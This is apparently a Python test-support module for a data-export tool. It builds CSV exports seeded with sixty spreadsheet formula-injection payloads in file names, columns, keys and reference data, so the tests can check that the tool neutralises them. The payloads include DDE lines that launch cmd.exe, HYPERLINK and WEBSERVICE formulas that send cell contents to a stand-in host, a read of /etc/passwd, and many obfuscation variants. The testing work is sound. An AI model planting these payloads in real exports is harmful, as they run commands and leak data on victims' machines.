"""Sixty texts that a spreadsheet might run, and exports that hold them in every place where text comes from outside."""

import csv
import io
import shutil
from dataclasses import dataclass
from datetime import date, timedelta
from numbers import Number
from pathlib import Path

import pandas as pd

from tests.support.exports import REFERENCE, Exports, Outcome, line, names

_SUM = "SUM(1,1)"
_DDE = "cmd|'/C calc'!A0"
PAYLOADS = (
    # as they stand
    "=1+1",
    "+1+1",
    "-1+1",
    f"@{_SUM}",
    f"={_SUM}",
    f"=+{_SUM}",
    f"-+={_SUM}",
    "==1+1",
    f"={_DDE}",
    f"+{_DDE}",
    f"-{_DDE}",
    f"@{_SUM}*{_DDE}",
    f"=10+20+{_DDE}",
    '=DDE("cmd";"/C calc";"A0")',
    '=HYPERLINK("http://a.example/?"&A1,"Xem")',
    '=WEBSERVICE("http://a.example/"&A1)',
    '=IMPORTXML("http://a.example","//a")',
    "='file:///etc/passwd'#$passwd.A1",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!A0",
    "={1;2}",
    "=A1",
    "-A1",
    "+A1",
    "@A1",
    # behind what a program may pass over
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   -1+A1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060+1+A1",
    "\u00ad@SUM(1)",
    "\u202e=1+1",
    "\x01=1+1",
    "\x0b=1+1",
    "\u2003\u200d =1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    '"=1+1"',
    "“=1+1”",
    "`=1+1",
    " '\"=1+1",
    # full-width
    "＝1+1",
    "＋1+1",
    "－1+A1",
    "＠SUM(1)",
    "\u3000＝1+1",
    # a second cell or line, wherever the file falls apart
    "a,=1+1",
    f"a;={_DDE}",
    "a\t=1+1",
    "a\n=1+1",
    "a\r\n-1+A1",
    'a",=1+1,"',
    'a";=1+1;"',
    "a;\u00a0'=1+1",
)


def bare_csv(rows: list[list[str]]) -> str:
    """Rows as a program writes them that thinks of nothing."""
    text = io.StringIO()
    csv.writer(text, lineterminator="\n").writerows(rows)
    return text.getvalue()


def hostile(folder: Path) -> Outcome:
    """All payloads as providers, departments, items, keys, held cells, names of files and of columns, old values and
    new ones, events and sources of targets; as refreshed."""
    exports = Exports(folder, hostile_reference(folder))
    _gifts(exports)
    _other_topics(exports)
    outcome = exports.refresh()
    assert outcome.result.status == 0, outcome.result.stderr
    return outcome


def hostile_reference(folder: Path) -> Path:
    """The reference data with payloads for events, and for sources of targets, as far as it may be written so."""
    texts = [text for text in PAYLOADS if not set('\r\n"') & set(text)]
    reference = folder / "reference"
    shutil.copytree(REFERENCE, reference)
    last = date(2021, 12, 3)
    events = [[str(last - timedelta(n)), str(last), "ALL", text, text] for n, text in enumerate(texts)]
    (reference / "events.csv").write_text(
        bare_csv([["from_date", "to_date", "topic", "name_vi", "name_en"], *events]), encoding="utf-8"
    )
    head, *targets = csv.reader((REFERENCE / "targets.csv").read_text(encoding="utf-8-sig").splitlines())
    index = head.index("source")
    for number, row in enumerate(targets):
        row[index] = texts[number % len(texts)]
    (reference / "targets.csv").write_text(bare_csv([head, *targets]), encoding="utf-8")
    return reference


def _row(topic: str, **cells: str) -> list[str]:
    return [cells.get(n, cell) for n, cell in zip(names(topic), line(topic).split(","), strict=True)]


def _gifts(exports: Exports) -> None:
    """A file for each six payloads, which are its name, its extra columns, items, keys and held cells."""
    old_rows, new_rows = [names("gifts")], [names("gifts")]
    for first in range(0, len(PAYLOADS), 6):
        texts = PAYLOADS[first : first + 6]
        rows = [[*names("gifts"), *texts]]
        for no, text in enumerate(texts, first):
            rows += [
                [*_row("gifts", gift_id=f"G-{no}", item=text), *texts],
                [*_row("gifts", gift_id=f"H-{no}", item=text), *texts],
                [*_row("gifts", gift_id=f"{text}{no}"), *texts],
                [*_row("gifts", gift_id=f"Q-{no}", quantity=text, item=text), *texts],
            ]
            old_rows.append(_row("gifts", gift_id=f"G-{no}", item=f"Vở {no}"))
            new_rows.append(_row("gifts", gift_id=f"H-{no}", item=f"Bút {no}"))
        exports.write(f"gifts/{','.join(texts).replace('/', '∕')}.csv", bare_csv(rows))
    exports.write("gifts/\x07.csv", bare_csv(old_rows))
    exports.write("gifts/～.csv", bare_csv(new_rows))


def _other_topics(exports: Exports) -> None:
    """A provider, a department and a donor a payload; a file that is refused for its provinces, one held."""
    payments, donations = [names("online_payments")], [names("blood_donations")]
    for text in PAYLOADS:
        payments.append(_row("online_payments", provider=text))
        donations.append(_row("blood_donations", unit=text, donor_code=text))
    exports.write("online_payments/p.csv", bare_csv(payments))
    exports.write("blood_donations/b.csv", bare_csv(donations))
    for no, text in enumerate(PAYLOADS[:2]):
        rows = [_row("online_payments", province=text) for _ in range(12)]
        exports.write(f"online_payments/r{no}.csv", bare_csv([names("online_payments"), *rows]))
    installs = [_row("app_installs", customer_code=text, channel=text) for text in PAYLOADS]
    exports.write("app_installs/a.csv", bare_csv([names("app_installs"), *installs]))


@dataclass(frozen=True)
class CsvFile:
    """A CSV that has left the house, and the rows that it was made of."""

    content: bytes
    rows: pd.DataFrame

    def records(self, delimiter: str) -> list[list[str]]:
        text = io.StringIO(self.content.decode("utf-8-sig"), newline="")
        return list(csv.reader(text, delimiter=delimiter))


def concatenate(files: list[CsvFile], path: Path) -> Path:
    """One file that begins with the records of the first and ends with those of the last: LibreOffice is slow."""
    path.write_bytes(b"\xef\xbb\xbf" + b"".join(file.content.removeprefix(b"\xef\xbb\xbf") for file in files))
    return path


def is_number(value: object) -> bool:
    return isinstance(value, Number) and value == value  # NaN is not
